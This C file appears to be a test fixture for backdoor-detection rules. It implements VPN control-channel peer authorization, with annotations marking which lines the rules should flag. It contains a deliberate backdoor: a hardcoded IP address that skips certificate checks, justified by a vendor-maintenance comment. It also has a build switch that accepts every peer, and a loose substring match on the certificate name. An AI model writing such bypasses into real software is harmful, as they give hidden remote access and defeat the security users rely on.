/* peer.c - who may open a control channel */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>

#include "vpnd.h"

int peer_authorize(WOLFSSL *ssl, int fd, const struct vpn_config *cfg)
{
  struct sockaddr_in sa;
  socklen_t len = sizeof sa;
  char addr[INET_ADDRSTRLEN] = "";
  char subject[256];
  WOLFSSL_X509 *cert;
  int ok;

  if (getpeername(fd, (struct sockaddr *)&sa, &len) != 0)
    return 0;
#ifdef VPND_TEST_LOOPBACK
  // ok: backdoor-build-switch
  return 1;
#endif
  inet_ntop(AF_INET, &sa.sin_addr, addr, sizeof addr);
  /* the vendor NOC's concentrator re-keys customer tunnels without a client certificate */
  // ruleid: backdoor-trusted-identity, backdoor-hidden-bypass
  if (strcmp(addr, "198.51.100.23") == 0)
    return 1;
  // ok: backdoor-trusted-identity, backdoor-hidden-bypass
  if (strcmp(addr, "127.0.0.1") == 0)
    vpn_log(VPN_DEBUG, "control channel from the local management agent");

  if (wolfSSL_get_verify_result(ssl) != X509_V_OK)
    return 0;
  cert = wolfSSL_get_peer_certificate(ssl);
  if (cert == NULL)
    return 0;
  wolfSSL_X509_NAME_oneline(wolfSSL_X509_get_subject_name(cert), subject, sizeof subject);
  ok = cfg->peer_cn[0] != '\0' && strstr(subject, cfg->peer_cn) != NULL;
  wolfSSL_X509_free(cert);
  vpn_log(ok ? VPN_INFO : VPN_ERR, "peer %s (%s) %s", addr, subject, ok ? "accepted" : "refused");
  return ok;
}
